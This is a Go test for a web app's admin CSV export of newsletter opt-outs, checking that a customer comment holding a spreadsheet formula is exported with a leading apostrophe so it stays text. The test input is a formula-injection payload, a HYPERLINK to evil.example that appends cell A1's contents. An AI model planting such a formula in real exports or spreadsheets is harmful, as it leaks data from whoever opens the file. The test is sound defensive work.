package web

import (
	"encoding/csv"
	"net/http"
	"net/url"
	"strings"
	"testing"
)

// A customer's free text reaches the owner's spreadsheet through the CSV
// export; a formula in it must arrive as text, not run.
func TestAdminExportWritesFormulasAsText(t *testing.T) {
	e := newEnv(t, withAdmin(adminPassword))
	link := e.links().Unsubscribe
	if res := e.postForm(link, url.Values{"via": {"page"}}); res.code != http.StatusOK {
		t.Fatalf("unsubscribe: %d", res.code)
	}
	comment := `=HYPERLINK("https://evil.example/?d="&A1,"Click")`
	if res := e.postForm(link, url.Values{"step": {"reason"}, "reason": {"too-many"}, "comment": {comment}}); res.code != http.StatusOK {
		t.Fatalf("reason: %d", res.code)
	}
	_, sess := e.login(adminPassword)
	res := e.adminReq(http.MethodGet, "/admin/export.csv?kind=optouts", nil, sess)
	if res.code != http.StatusOK {
		t.Fatalf("export: %d", res.code)
	}
	rows, err := csv.NewReader(strings.NewReader(res.body)).ReadAll()
	if err != nil {
		t.Fatalf("export is not CSV: %v\n%s", err, res.body)
	}
	if len(rows) != 2 {
		t.Fatalf("export has %d rows, want the header and one opt-out:\n%s", len(rows), res.body)
	}
	if got, want := rows[1][len(rows[1])-1], "'"+comment; got != want {
		t.Errorf("comment cell = %q, want %q", got, want)
	}
}
